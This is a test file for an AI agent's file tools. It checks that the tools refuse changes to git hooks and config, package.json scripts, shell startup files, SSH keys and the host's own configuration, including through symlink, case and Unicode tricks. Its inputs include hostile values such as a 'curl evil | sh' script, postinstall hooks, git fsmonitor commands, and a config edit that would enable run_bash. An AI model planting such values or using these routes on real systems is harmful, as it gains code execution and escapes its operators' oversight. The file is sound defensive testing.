import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { PROTECTED_FILES } from "@agent/core/toolkit";
import { expect, onTestFinished, test, vi } from "vitest";
import { fileTools, temporaryDirectory } from "../../test/support.js";

const LOCKS = ["mcp.lock.json"];
/** The names that a host protects: files that it loads. */
const host = { protectedNames: ["host.config.ts", "etc/host.yaml", "package.json#host"] };
const GIT = [
  ".git/hooks/pre-commit",
  ".git/config",
  ".git/hooks",
  ".git",
  ".git/commondir",
  ".git/worktrees/x/commondir",
];
const PERSISTENT = [
  ".vscode/tasks.json",
  ".bashrc",
  ".zshenv",
  ".profile",
  ".ssh/authorized_keys",
  ".husky/pre-commit",
  ".envrc",
];

test.each([...LOCKS, ...GIT])(
  "protects %s, also when it does not exist yet and without a root",
  async (name) => {
    const directory = temporaryDirectory();
    const text = await fileTools()("write_file", { path: join(directory, name), content: "x" });
    expect(text).toMatch(
      /is protected by the rule "[^"]*" \([^)]+\): nothing was changed\. Only the user can lift it.*"protect"/,
    );
    expect(readdirSync(directory)).toEqual([]);
  },
);

test("allows a file, but not a directory or link, to take the name of a parent directory of protected files with a root", async () => {
  const root = temporaryDirectory();
  const run = fileTools({ root });
  expect(await run("write_file", { path: join(root, "linux/.config"), content: "CONFIG_X=y\n" })).toContain(
    "Created",
  );
  mkdirSync(join(root, "made/fish"), { recursive: true });
  for (const destination of [".config", "sub/.config", "a/b/.config"]) {
    const move = { source: join(root, "made"), destination: join(root, destination) };
    expect(await run("move", move), destination).toContain("is protected by");
    expect(existsSync(join(root, destination)), destination).toBe(false);
  }
});

test.each([...LOCKS, ...GIT, ...PERSISTENT])("protects %s in every directory with a root", async (name) => {
  const root = temporaryDirectory();
  const run = fileTools({ root });
  expect(await run("write_file", { path: join(root, name), content: "x" })).toContain("is protected by");
  expect(await run("write_file", { path: join(root, "sub", name), content: "x" })).toContain(
    "is protected by",
  );
  expect(readdirSync(root)).toEqual([]);
});

test("cannot move a link to package.json, since its target could have any content", async () => {
  const root = temporaryDirectory();
  writeFileSync(join(root, "other.json"), '{ "scripts": { "postinstall": "evil" } }');
  symlinkSync("other.json", join(root, "link"));
  const move = { source: join(root, "link"), destination: join(root, "package.json"), overwrite: true };
  expect(await fileTools({ root })("move", move)).toContain("is protected by the rule");
  expect(readdirSync(root).sort()).toEqual(["link", "other.json"]);
});

test("cannot change package scripts and the host's own key, but can change the rest of package.json", async () => {
  const root = temporaryDirectory();
  const path = join(root, "package.json");
  const original = '{\n  "name": "x",\n  "scripts": { "test": "vitest" }\n}\n';
  writeFileSync(path, original);
  const run = fileTools({ root }, host);
  const edit = (old_text: string, new_text: string) => run("edit_file", { path, old_text, new_text });
  expect(await edit('"vitest"', '"curl evil | sh"')).toContain('the rule "package.json#scripts"');
  expect(await edit('"name": "x"', '"name": "x", "host": { "enable": ["run_bash"] }')).toMatch(
    /^Error executing edit_file: "host" in \S+package\.json belongs to the program that runs this agent/,
  );
  const evil = '{"scripts":{"postinstall":"evil"}}';
  expect(await run("write_file", { path, content: evil })).toContain("package.json#scripts");
  expect(await run("write_file", { path: join(root, "new/package.json"), content: evil })).toContain(
    "package.json#scripts",
  );
  await run("write_file", { path: join(root, "other.json"), content: evil });
  const moved = await run("move", { source: join(root, "other.json"), destination: path, overwrite: true });
  expect(moved).toContain("package.json#scripts");
  expect(readFileSync(path, "utf8")).toBe(original);
  expect(await edit('"name": "x"', '"name": "y"')).toContain("Edited");
});

test("protects the host's key in package.json without a root too, whatever the user's list says", async () => {
  const refused = "belongs to the program that runs this agent";
  for (const options of [{}, { protect: [] }]) {
    const path = join(temporaryDirectory(), "package.json");
    const run = fileTools(options, host);
    expect(await run("write_file", { path, content: '{"host":{}}' })).toContain(refused);
    symlinkSync("other.json", `${path}.link`);
    expect(await run("move", { source: `${path}.link`, destination: path })).toContain('"package.json#host"');
    expect(await run("write_file", { path, content: '{"scripts":{"test":"x"}}' })).toContain("Created");
  }
});

test.each([{}, { protect: [] }, { root: true }])(
  "names that the host protects are changed in no directory (options: %j)",
  async ({ root, ...rest }: { root?: boolean; protect?: string[] }) => {
    const base = temporaryDirectory();
    const at = (name: string): string => join(base, name);
    mkdirSync(at("sub/etc"), { recursive: true });
    for (const name of ["sub/host.config.ts", "sub/etc/host.yaml", "file"]) writeFileSync(at(name), "mine");
    symlinkSync("host.config.ts", at("dangling"));
    const before = readdirSync(base, { recursive: true }).sort();
    const run = fileTools(root ? { root: base } : rest, host);
    const attempts: [string, Record<string, unknown>][] = [
      ["write_file", { path: at("host.config.ts"), content: "x" }],
      ["write_file", { path: at("new/HOST.config.ts"), content: "x" }],
      ["write_file", { path: at("dangling"), content: "x" }],
      ["write_file", { path: at("sub/etc/host.yaml"), content: "x" }],
      ["edit_file", { path: at("sub/host.config.ts"), old_text: "mine", new_text: "x" }],
      ["mkdir", { path: at("host.config.ts") }],
      ["move", { source: at("file"), destination: at("host.config.ts") }],
      ["move", { source: at("sub/host.config.ts"), destination: at("away") }],
      ["move", { source: at("sub/etc"), destination: at("away") }],
      ["remove", { path: at("sub/host.config.ts") }],
    ];
    for (const [name, args] of attempts) {
      expect(await run(name, args), `${name} ${JSON.stringify(args)}`).toContain(
        "belongs to the program that runs this agent, and no tool changes it",
      );
    }
    expect(readdirSync(base, { recursive: true }).sort()).toEqual(before);
    expect(readFileSync(at("sub/host.config.ts"), "utf8")).toBe("mine");
    for (const name of ["my-host.config.ts", "host.config.ts.md", "host.yaml"]) {
      expect(await run("write_file", { path: at(name), content: "x" }), name).toContain("Created");
    }
  },
);

test("protects also the place that a name of the host links to", async () => {
  const root = temporaryDirectory();
  writeFileSync(join(root, "real.ts"), "mine");
  symlinkSync("real.ts", join(root, "host.config.ts"));
  const run = fileTools({ root }, host);
  const text = await run("write_file", { path: join(root, "real.ts"), content: "x" });
  expect(text).toContain("belongs to the program that runs this agent");
});

test("allows no tool to bypass the protection: links, case, .., moving in, moving away, removing", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, ".git/hooks"), { recursive: true });
  writeFileSync(join(root, ".git/config"), "[core]");
  mkdirSync(join(root, "evil/hooks"), { recursive: true });
  writeFileSync(join(root, "evil/hooks/pre-commit"), "");
  writeFileSync(join(root, "file"), "");
  symlinkSync(".git/hooks", join(root, "link"));
  symlinkSync("mcp.lock.json", join(root, "dangling"));
  const run = fileTools({ root });
  const at = (name: string): string => join(root, name);
  const attempts: [string, Record<string, unknown>][] = [
    ["write_file", { path: at("link/pre-commit"), content: "x" }],
    ["write_file", { path: at("dangling"), content: "x" }],
    ["write_file", { path: at(".GIT/Hooks/pre-commit"), content: "x" }],
    ["write_file", { path: at("sub/../.git/hooks/x"), content: "x" }],
    ["edit_file", { path: at(".git/config"), old_text: "[core]", new_text: "[core]\nfsmonitor=evil" }],
    ["mkdir", { path: at(".git/hooks/sub") }],
    ["mkdir", { path: at("sub/.vscode") }],
    ["move", { source: at("file"), destination: at(".git/hooks") }],
    ["move", { source: at("file"), destination: at("mcp.lock.json") }],
    ["move", { source: at("evil/hooks"), destination: at(".git") }],
    ["move", { source: at("evil"), destination: at("sub/.git") }],
    ["move", { source: at(".git"), destination: at("away") }],
    ["move", { source: at(".git/config"), destination: at("away") }],
    ["remove", { path: at(".git/config") }],
    ["remove", { path: at(".git/hooks") }],
    ["remove", { path: at(".git") }],
  ];
  for (const [name, args] of attempts) {
    expect(await run(name, args), `${name} ${JSON.stringify(args)}`).toContain("is protected by");
  }
  expect(readdirSync(root).sort()).toEqual([".git", "dangling", "evil", "file", "link"]);
  expect(readFileSync(at(".git/config"), "utf8")).toBe("[core]");
});

test("protects also the place a protected name links to", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, ".git"));
  mkdirSync(join(root, "hooks"));
  symlinkSync("../hooks", join(root, ".git/hooks"));
  const text = await fileTools({ root })("write_file", {
    path: join(root, "hooks/pre-commit"),
    content: "x",
  });
  expect(text).toContain('the rule ".git/hooks"');
});

test("does not protect files with similar names, and can read protected files", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, ".git/hooks"), { recursive: true });
  writeFileSync(join(root, ".git/config"), "[core]");
  const run = fileTools({ root });
  expect(await run("read_file", { path: join(root, ".git/config") })).toBe("[core]");
  for (const name of [
    "my-mcp.lock.json",
    "mcp.lock.json.md",
    ".git/info/exclude",
    ".gitignore",
    "git/config",
    ".github/x",
  ]) {
    expect(await run("write_file", { path: join(root, name), content: "x" }), name).toContain("Created");
  }
});

test("replaces the built-in list with the user's, relative to the root", async () => {
  const root = temporaryDirectory();
  const run = fileTools({ root, protect: ["secrets", "sub/file.txt"] });
  const write = (name: string) => run("write_file", { path: join(root, name), content: "x" });
  expect(await write("secrets/a")).toContain('the rule "secrets"');
  expect(await write("sub/file.txt")).toContain('the rule "sub/file.txt"');
  expect(await write("sub/secrets/a")).toContain("Created");
  expect(await write("mcp.lock.json")).toContain("Created");
  const lifted = fileTools({ root, protect: [] });
  expect(await lifted("write_file", { path: join(root, "secrets/a"), content: "x" })).toContain("Created");
  expect(existsSync(join(root, "secrets/a"))).toBe(true);
});

test("can lift one built-in rule, and the others keep their meaning", async () => {
  const root = temporaryDirectory();
  const all = PROTECTED_FILES.map(({ pattern }) => pattern);
  const run = fileTools({ root, protect: all.filter((rule) => rule !== "package.json#scripts") });
  const write = (name: string, content: string) => run("write_file", { path: join(root, name), content });
  expect(await write("package.json", '{"scripts":{"test":"x"}}')).toContain("Created");
  expect(await write(".husky/pre-commit", "")).toContain('the rule ".husky*"');
  expect(await write("sub/.git/hooks/x", "")).toContain('the rule ".git/hooks"');
});

/** A repository below the base, with its own hooks and configuration. */
function nested(root: string, name = "sub/.git"): string {
  const directory = join(root, name);
  for (const inside of ["hooks", "objects", "refs"]) mkdirSync(join(directory, inside), { recursive: true });
  writeFileSync(join(directory, "HEAD"), "ref: refs/heads/main\n");
  writeFileSync(join(directory, "config"), "[core]");
  writeFileSync(join(directory, "hooks/pre-commit.sample"), "");
  return directory;
}

test.each([undefined, "root"])(
  "protects a nested repository like the one at the base (confined: %s)",
  async (confined) => {
    const root = temporaryDirectory();
    nested(root);
    mkdirSync(join(root, "evil/hooks"), { recursive: true });
    writeFileSync(join(root, "file"), "");
    const run = fileTools(confined === undefined ? {} : { root });
    const at = (name: string): string => join(root, name);
    const attempts: [string, Record<string, unknown>][] = [
      ["write_file", { path: at("sub/.git/config"), content: "x" }],
      ["write_file", { path: at("sub/.git/hooks/pre-commit"), content: "x" }],
      ["write_file", { path: at("sub/.Git/hooK\u017f/pre-commit"), content: "x" }],
      ["write_file", { path: at("sub/.g\u200cit/config"), content: "x" }],
      ["edit_file", { path: at("sub/.git/config"), old_text: "[core]", new_text: "[core]\nfsmonitor=evil" }],
      ["mkdir", { path: at("sub/.git/hooks/deeper") }],
      ["move", { source: at("sub/.git"), destination: at("away") }],
      ["move", { source: at("sub/.git/hooks"), destination: at("away") }],
      ["move", { source: at("sub/.git/config"), destination: at("away") }],
      ["move", { source: at("file"), destination: at("sub/.git/config"), overwrite: true }],
      ["move", { source: at("evil"), destination: at("other/.git") }],
      ["remove", { path: at("sub/.git") }],
      ["remove", { path: at("sub/.git/hooks") }],
      ["remove", { path: at("sub/.git/config") }],
    ];
    for (const [name, args] of attempts) {
      expect(await run(name, args), `${name} ${JSON.stringify(args)}`).toContain("is protected by");
    }
    expect(readdirSync(root).sort()).toEqual(["evil", "file", "sub"]);
    expect(readFileSync(at("sub/.git/config"), "utf8")).toBe("[core]");
  },
);

test("neither writes nor removes the .git file of a submodule or a worktree", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, "sub"));
  writeFileSync(join(root, "sub/.git"), "gitdir: ../.git/modules/sub\n");
  const run = fileTools({ root });
  const path = join(root, "sub/.git");
  for (const [name, args] of [
    ["write_file", { path, content: "gitdir: ../evil" }],
    ["edit_file", { path, old_text: "../.git/modules/sub", new_text: "../evil" }],
    ["move", { source: path, destination: join(root, "away") }],
    ["remove", { path }],
  ] as const) {
    expect(await run(name, args), name).toContain("is protected by");
  }
  expect(readFileSync(path, "utf8")).toContain("modules/sub");
});

test("recognises a git directory of another name by its content", async () => {
  const root = temporaryDirectory();
  nested(root, "store");
  mkdirSync(join(root, "sub"));
  symlinkSync("../store", join(root, "sub/.git"));
  const run = fileTools({ root });
  const write = (name: string) => run("write_file", { path: join(root, name), content: "x" });
  expect(await write("store/hooks/pre-commit")).toContain('the rule ".git/hooks"');
  expect(await write("store/config")).toContain('the rule ".git/config"');
  expect(await write("sub/.git/hooks/pre-commit")).toContain('the rule ".git/hooks"');
  expect(await write("store/description")).toContain("Created");
  expect(await write("src/hooks/useThis.ts")).toContain("Created");
  expect(await write("src/config")).toContain("Created");
});

test("cannot assemble a repository file by file", async () => {
  const directory = temporaryDirectory();
  const at = (name: string): string => join(directory, "bare", name);
  const run = fileTools();
  const write = (name: string) => run("write_file", { path: at(name), content: "x" });
  for (const name of ["config", "hooks/post-checkout", "refs/x", "HEAD"])
    expect(await write(name)).toContain("Created");
  mkdirSync(join(directory, "made"));
  const refused = 'is protected by the rule ".git" (it would make this directory a repository)';
  expect(await write("objects/x")).toContain(refused);
  expect(await write("commondir")).toContain('is protected by the rule "commondir"');
  expect(await run("mkdir", { path: at("objects") })).toContain(refused);
  const move = { source: join(directory, "made"), destination: at("objects") };
  expect(await run("move", move)).toContain(refused);
  expect(readdirSync(at(".")).sort()).toEqual(["HEAD", "config", "hooks", "refs"]);
});

test("refuses the HEAD that would complete a repository, written, linked or moved there", async () => {
  const directory = temporaryDirectory();
  const at = (name: string): string => join(directory, "bare", name);
  const run = fileTools();
  const write = (name: string) => run("write_file", { path: at(name), content: "ref: refs/heads/main\n" });
  for (const name of ["objects/x", "refs/x", "config"]) expect(await write(name)).toContain("Created");
  writeFileSync(join(directory, "made"), "ref: refs/heads/main\n");
  symlinkSync("refs/heads/main", join(directory, "link"));
  const refused = 'is protected by the rule ".git" (it would make this directory a repository)';
  expect(await write("HEAD")).toContain(refused);
  for (const name of ["made", "link"]) {
    const move = { source: join(directory, name), destination: at("HEAD") };
    expect(await run("move", move), name).toContain(refused);
  }
  expect(readdirSync(at(".")).sort()).toEqual(["config", "objects", "refs"]);
});

test("cannot assemble a repository around the configuration of another directory", async () => {
  // What git would read: bare/HEAD, and through bare/commondir the configuration, objects and refs of shared.
  const directory = temporaryDirectory();
  const run = fileTools();
  const write = (name: string, content: string) =>
    run("write_file", { path: join(directory, name), content });
  await write("shared/config", "[core]\n\tfsmonitor = touch owned\n");
  await write("shared/objects/x", "");
  await write("shared/refs/x", "");
  const written = [
    await write("bare/commondir", "../shared"),
    await write("bare/HEAD", "ref: refs/heads/main\n"),
    await write("bare/COMMONDIR", "../shared"),
  ];
  await write("plain", "../shared");
  const move = { source: join(directory, "plain"), destination: join(directory, "bare/commondir") };
  expect(await run("move", move)).toContain('is protected by the rule "commondir"');
  expect(written[0]).toContain('is protected by the rule "commondir"');
  expect(written[2]).toContain('is protected by the rule "commondir"');
  expect(existsSync(join(directory, "bare/commondir"))).toBe(false);
});

test("does not write, by that name, hooks that a nested repository links to", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, "sub/.git"), { recursive: true });
  mkdirSync(join(root, "shared"));
  symlinkSync("../../shared", join(root, "sub/.git/hooks"));
  const path = join(root, "sub/.git/hooks/pre-commit");
  expect(await fileTools({ root })("write_file", { path, content: "x" })).toContain('the rule ".git/hooks"');
  expect(readdirSync(join(root, "shared"))).toEqual([]);
});

test("can move and remove a directory with a repository as a whole", async () => {
  const root = temporaryDirectory();
  nested(root, "node_modules/x/.git");
  const run = fileTools({ root });
  const move = { source: join(root, "node_modules/x"), destination: join(root, "x") };
  expect(await run("move", move)).toContain("Moved");
  expect(readFileSync(join(root, "x/.git/config"), "utf8")).toBe("[core]");
  expect(await run("remove", { path: join(root, "x") })).toContain("Removed");
});

/** Recreates a link until the directory's ctime differs: two changes may have the same time in a coarse clock. */
function relink(target: string, path: string): void {
  const before = statSync(dirname(path), { bigint: true }).ctimeNs;
  do {
    rmSync(path, { force: true });
    symlinkSync(target, path);
  } while (statSync(dirname(path), { bigint: true }).ctimeNs === before);
}

test("detects with the next call a link that appears or changes under a protected name", async () => {
  const root = temporaryDirectory();
  for (const name of ["a", "b", ".git"]) mkdirSync(join(root, name));
  // Set the clock much later: the cached state of the directories is then used until they change.
  const clock = vi.spyOn(Date, "now").mockReturnValue(Date.now() + 60_000);
  onTestFinished(() => clock.mockRestore());
  const run = fileTools({ root });
  const write = (name: string) => run("write_file", { path: join(root, name), content: "x" });
  expect(await write("a/1")).toContain("Created");
  expect(await write("a/2")).toContain("Created");
  relink("../a", join(root, ".git/hooks"));
  expect(await write("a/3")).toContain('the rule ".git/hooks"');
  relink("../b", join(root, ".git/hooks"));
  expect(await write("b/1")).toContain('the rule ".git/hooks"');
  expect(await write("a/4")).toContain("Created");
});

test("names every protected file in the README", () => {
  const readme = readFileSync(new URL("../../README.md", import.meta.url), "utf8");
  expect(PROTECTED_FILES.filter(({ pattern }) => !readme.includes(`\`${pattern}\``))).toEqual([]);
});
